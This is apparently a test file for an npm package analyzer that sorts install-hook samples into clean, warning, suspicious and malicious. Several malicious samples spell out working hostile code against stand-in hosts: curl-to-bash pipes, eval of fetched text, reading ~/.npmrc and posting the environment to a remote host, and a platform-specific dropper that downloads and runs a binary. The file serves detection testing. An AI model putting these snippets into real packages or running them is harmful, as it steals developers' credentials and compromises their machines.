import { FETCH, hook, type HookSample, judgeHooks } from '../testing/hook-samples';

const SAMPLES: readonly HookSample[] = [
  { what: 'no scripts', manifest: {}, files: { 'index.js': `require('https'); eval(x)` }, verdict: 'clean' },
  {
    what: 'scripts for the author only',
    manifest: { scripts: { test: 'jest', build: 'curl https://a.invalid | sh', prepare: 'husky' } },
    verdict: 'clean',
    rules: ['prepare-script'],
  },
  {
    what: 'a banner',
    manifest: hook(`node -e "console.log('thank you')"`),
    verdict: 'warning',
    rules: ['install-script'],
  },
  {
    what: 'a banner in a file that may be absent',
    manifest: hook(`node -e "try{require('./banner')}catch(e){}"`),
    files: { 'banner.js': 'console.log(process.env.npm_config_loglevel)' },
    verdict: 'warning',
  },

  {
    what: 'fetched text evaluated (eslint-scope)',
    manifest: hook('node ./lib/build.js'),
    files: { 'lib/build.js': `${FETCH} fetchIt('https://paste.invalid/raw', (text) => eval(text));` },
    verdict: 'malicious',
    rules: ['hook-remote-code'],
  },
  {
    what: 'the same two files further',
    manifest: { scripts: { postinstall: 'npm run setup', setup: 'node a' } },
    files: {
      'a.js': `require('./lib/b')`,
      'lib/b/index.js': `${FETCH} fetchIt('https://x.invalid', (t) => new Function(t)());`,
    },
    verdict: 'malicious',
    rules: ['hook-remote-code'],
  },
  {
    what: 'a telemetry beacon',
    manifest: hook('node report.js'),
    files: {
      'report.js': `require('https').request({ host: 'telemetry.invalid', method: 'POST' }).end(JSON.stringify({ v: process.env.npm_package_version }))`,
    },
    verdict: 'suspicious',
    rules: ['hook-network'],
  },

  {
    what: 'npm credentials sent away',
    manifest: hook('node a.js'),
    files: {
      'a.js': `const fs = require('fs'); const os = require('os'); const t = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8'); fetch('https://x.invalid', { method: 'POST', body: t })`,
    },
    verdict: 'malicious',
    rules: ['hook-credential-theft'],
  },
  {
    what: 'the environment sent away',
    manifest: hook('node a.js', 'preinstall'),
    files: {
      'a.js': `import('node:https').then((h) => h.request('https://x.invalid', { method: 'POST' }).end(JSON.stringify(process.env)))`,
    },
    verdict: 'malicious',
    rules: ['hook-credential-theft'],
  },
  {
    what: 'the environment sent from one file, taken in another',
    manifest: hook('node a.js'),
    files: {
      'a.js': `const { all } = require('./b'); fetch('https://x.invalid', { body: all() })`,
      'b.js': `exports.all = () => Object.entries(process.env).join()`,
    },
    verdict: 'malicious',
    rules: ['hook-credential-theft'],
  },
  {
    what: 'a build that hands on its environment',
    manifest: hook('node build.js', 'install'),
    files: {
      'build.js': `const { spawnSync } = require('child_process'); spawnSync('node-gyp', ['rebuild'], { env: { ...process.env, JOBS: 'max' }, stdio: 'inherit' })`,
    },
    verdict: 'warning',
    rules: ['hook-native-build'],
  },

  {
    what: 'a shell pipe',
    manifest: hook('curl -s https://x.invalid/i | bash'),
    verdict: 'malicious',
    rules: ['hook-remote-code'],
  },
  {
    what: 'a binary by platform (ua-parser-js)',
    manifest: hook('node preinstall.js', 'preinstall'),
    files: {
      'preinstall.js': `const { exec } = require('child_process'); if (process.platform === 'win32') exec('cmd.exe /c preinstall.bat'); else exec('/bin/bash preinstall.sh')`,
      'preinstall.sh':
        'curl http://203.0.113.5/jsextension -o jsextension\nchmod +x jsextension\n./jsextension -k --tls &',
      'preinstall.bat': 'certutil -urlcache -f http://203.0.113.5/x.exe x.exe\nx.exe',
    },
    verdict: 'malicious',
    rules: ['hook-remote-code', 'hook-drop-host'],
  },
  {
    what: 'a shell script that builds',
    manifest: hook('sh ./build.sh', 'install'),
    files: { 'build.sh': '#!/bin/sh\nset -e\ncd src && make && cp out.node ../lib/' },
    verdict: 'warning',
    rules: ['hook-native-build'],
  },
];

describe('process/analyze-artifact, hooks that fetch or steal', () => judgeHooks(SAMPLES));
